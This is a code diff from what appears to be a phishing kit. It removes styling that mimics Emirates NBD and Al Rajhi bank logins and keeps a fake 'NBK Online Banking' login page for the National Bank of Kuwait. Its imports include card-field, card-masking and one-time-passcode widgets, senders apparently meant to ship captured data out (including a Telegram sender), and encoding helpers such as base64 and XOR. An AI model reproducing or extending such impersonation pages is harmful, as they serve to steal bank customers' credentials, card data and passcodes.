@@ -1,16 +1,6 @@
 import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
 import { doc, wordmark, cardCss, cardFields, cardMaskJs, otpBoxes, otpJs, countdownJs, stepFlow, sendFetchForm, sendJson, sendXhr, sendTelegram, json, js, b64, pct, xorHex } from '../parts/yl-kit.js';
 
-const enbdCss = cardCss({ bg: '#eef1f6', primary: '#072447', radius: 4 }) + `
-.top{background:#072447;height:64px;display:flex;align-items:center;padding:0 24px}
-.notice{background:#fff6e0;border-left:4px solid #f0a500;padding:10px 12px;font-size:13px;margin-bottom:18px;line-height:1.5}
-.links{display:flex;justify-content:space-between;margin:14px 0 0;font-size:13px}.links a{color:#0b5cad;text-decoration:none}`;
-
-const rajhiCss = cardCss({ bg: '#f4f6fb', primary: '#1b3fae', radius: 12, font: "'Tajawal','Segoe UI',Tahoma,sans-serif" }) + `
-header.h{background:#fff;border-bottom:1px solid #e6e9f2;padding:14px 24px;display:flex;justify-content:space-between;align-items:center}
-header.h a{color:#1b3fae;text-decoration:none;font-size:14px}
-.tabs{display:flex;background:#eef1fa;border-radius:10px;padding:4px;margin-bottom:20px}.tabs span{flex:1;text-align:center;padding:9px;border-radius:8px;font-size:14px;color:#5b6170}.tabs span.on{background:#fff;color:#1b3fae;font-weight:700}`;
-
 const nbkInner = `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>NBK Online Banking | National Bank of Kuwait</title>
 <style>body{margin:0;font-family:Arial,Helvetica,sans-serif;background:#f2f4f7}.bar{background:#00205b;padding:16px 28px;color:#fff;display:flex;align-items:center;justify-content:space-between}.bar b{font-size:22px;letter-spacing:1px}.bar span{font-size:13px;opacity:.8}
 .box{max-width:400px;margin:46px auto;background:#fff;padding:30px;border-top:4px solid #00a3e0;box-shadow:0 2px 10px rgba(0,0,0,.07)}h2{margin:0 0 18px;color:#00205b;font-weight:normal}
